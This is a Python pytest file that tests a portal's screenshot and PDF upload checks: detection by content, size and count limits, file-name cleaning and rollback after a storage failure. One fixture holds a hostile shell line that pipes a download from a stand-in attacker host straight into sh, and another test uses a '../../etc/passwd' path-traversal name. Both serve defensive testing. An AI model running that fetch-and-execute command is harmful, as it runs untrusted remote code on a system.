"""Uploads are checked by content and limited in size and number; a refused upload stores nothing."""

from __future__ import annotations

import io

import pytest
from application_factories import incoming, make_application, noise_png, png, stored_files
from catalogue_factories import make_dataset
from PIL import Image
from sqlalchemy import func, select

from portal import clock, filetypes
from portal.applications import uploads
from portal.applications.models import Application, ApplicationFile
from portal.dbtypes import utcnow
from portal.extensions import db

SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def post_new(client, dataset, files: list[tuple[bytes, str]], **extra):
    data = {
        "form_token": "t",
        "name": "桐乡智慧养老",
        "quarter": clock.quarter_of(utcnow()),
        "domain": "sqfw",
        "dataset_ids": [str(dataset.id)],
        "web_url": "https://yl.example.cn/",
        "save": "y",
        "screenshots": [(io.BytesIO(content), name) for content, name in files],
        **extra,
    }
    return client.post("/applications/new", data=data, content_type="multipart/form-data")


@pytest.fixture
def member(app, client, login):
    user = login("county_member", region_code="330483")
    client.set_cookie("lang", "en")
    return user


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ([(SCRIPT, "screenshot.png")], "screenshot.png is not a PNG, JPEG or WebP image."),
        (
            [(b"<svg xmlns='http://www.w3.org/2000/svg'/>", "logo.png")],
            "logo.png is not a PNG, JPEG or WebP image.",
        ),
        ([(png()[:40], "cut.png")], "cut.png is not a PNG, JPEG or WebP image."),
        ([(png(fmt="GIF"), "anim.png")], "anim.png is not a PNG, JPEG or WebP image."),
        ([(b"", "empty.png")], "empty.png is empty."),
        ([(png(), "good.png"), (noise_png(), "huge.png")], "huge.png is larger than 5 MB."),
        ([(png(), f"{n}.png") for n in range(7)], "at most 6 screenshots"),
    ],
    ids=["script-renamed", "svg-renamed", "truncated", "gif", "empty", "oversized", "too-many"],
)
def test_bad_uploads_are_refused_with_a_clear_message_and_nothing_is_stored(
    app, client, member, files, message
):
    dataset = make_dataset()
    db.session.commit()
    response = post_new(client, dataset, files)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Application)) == 0
    assert db.session.scalar(select(func.count()).select_from(ApplicationFile)) == 0
    assert stored_files(app) == []


def test_adding_screenshots_beyond_six_to_a_draft_is_refused(app, client, member):
    application = make_application(by=member, code="330483", screenshots=[png()] * 5)
    db.session.commit()
    before = stored_files(app)
    data = {
        "name": application.name,
        "quarter": application.quarter,
        "domain": application.domain,
        "dataset_ids": [str(d.id) for d in application.datasets],
        "save": "y",
        "screenshots": [(io.BytesIO(png()), "6.png"), (io.BytesIO(png()), "7.png")],
    }
    response = client.post(
        f"/applications/{application.id}/edit", data=data, content_type="multipart/form-data"
    )
    assert response.status_code == 400
    assert "it has 5 and 2 were added" in response.get_data(as_text=True)
    assert stored_files(app) == before
    assert db.session.scalar(select(func.count()).select_from(ApplicationFile)) == 5


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_images_are_kept_with_the_type_their_content_shows_and_a_thumbnail(app, client, member, fmt):
    dataset = make_dataset()
    db.session.commit()
    big = io.BytesIO()
    Image.new("RGB", (1600, 1200), "green").save(big, fmt)
    response = post_new(client, dataset, [(big.getvalue(), "photo.bin")])  # the name says nothing
    assert response.status_code == 302
    (shot,) = db.session.scalars(select(ApplicationFile)).all()
    assert shot.content_type == f"image/{fmt.lower()}"
    assert (shot.width, shot.height, shot.filename) == (1600, 1200, "photo.bin")
    assert shot.storage_key.startswith(f"applications/{shot.application_id}/screenshots/")
    thumb = client.get(f"/applications/{shot.application_id}/files/{shot.id}/thumbnail")
    with Image.open(io.BytesIO(thumb.data)) as image:
        assert image.format == "WEBP" and max(image.size) <= 480


def test_a_pdf_is_checked_by_its_first_bytes(app, client, member):
    dataset = make_dataset()
    db.session.commit()
    response = post_new(client, dataset, [], pdf=(io.BytesIO(b"MZ\x90\x00 not a pdf"), "说明.pdf"))
    assert response.status_code == 400
    assert "说明.pdf is not a PDF document." in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_the_pdf_limit_is_configurable(app, client, member):
    app.config["APPLICATION_PDF_MAX_SIZE"] = 1024
    dataset = make_dataset()
    db.session.commit()
    response = post_new(client, dataset, [], pdf=(io.BytesIO(b"%PDF-1.7\n" + b"0" * 2000), "big.pdf"))
    assert response.status_code == 400
    assert "big.pdf is larger than 1 KB." in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_a_file_input_left_blank_is_no_upload(app):
    assert uploads.check_screenshots([incoming(b"", "")], existing=0, limits=uploads.Limits()) == []
    assert uploads.check_pdf(incoming(b"", ""), limits=uploads.Limits()) is None


def test_an_image_with_too_many_pixels_is_refused(app):
    limits = uploads.Limits(max_pixels=100 * 100)
    with pytest.raises(uploads.UploadRejected):
        uploads.check_screenshots([incoming(png(200, 200))], existing=0, limits=limits)


def test_client_paths_are_cut_from_file_names(app):
    assert filetypes.clean_name("C:\\Users\\张三\\桌面\\首页.png") == "首页.png"
    assert filetypes.clean_name("../../etc/passwd") == "passwd"


def test_a_storage_failure_takes_back_what_was_stored(app, monkeypatch):
    from portal.storage import StorageError, get_storage

    store = get_storage()
    application = make_application()
    real_put, calls = store.put, []

    def failing_put(key, source, **kwargs):
        calls.append(key)
        if len(calls) == 3:
            raise StorageError("disk full")
        return real_put(key, source, **kwargs)

    monkeypatch.setattr(store, "put", failing_put)
    images = uploads.check_screenshots(
        [incoming(png()), incoming(png())], existing=0, limits=uploads.Limits()
    )
    with pytest.raises(uploads.UploadFailed):
        uploads.store_screenshots(application, images, store=store, by=None)
    assert stored_files(app) == []


def test_screenshots_are_kept_in_minio_and_served_through_the_portal(app, client, s3_endpoint, tmp_path):
    import uuid

    from s3server import ACCESS_KEY, SECRET_KEY

    from portal.storage import storage_from_url

    url = f"minio://{ACCESS_KEY}:{SECRET_KEY}@{s3_endpoint}/apps-{uuid.uuid4().hex[:12]}"
    app.extensions["storage"] = store = storage_from_url(url, default_root=str(tmp_path))
    application = make_application(status="approved", screenshots=[png(color="purple")])
    db.session.commit()
    (shot,) = application.screenshots
    assert store.exists(shot.storage_key) and store.exists(shot.thumbnail_key)
    response = client.get(f"/applications/{application.id}/files/{shot.id}")
    assert (response.status_code, response.data) == (200, png(color="purple"))
    assert client.get(f"/applications/{application.id}/files/{shot.id}/thumbnail").mimetype == "image/webp"
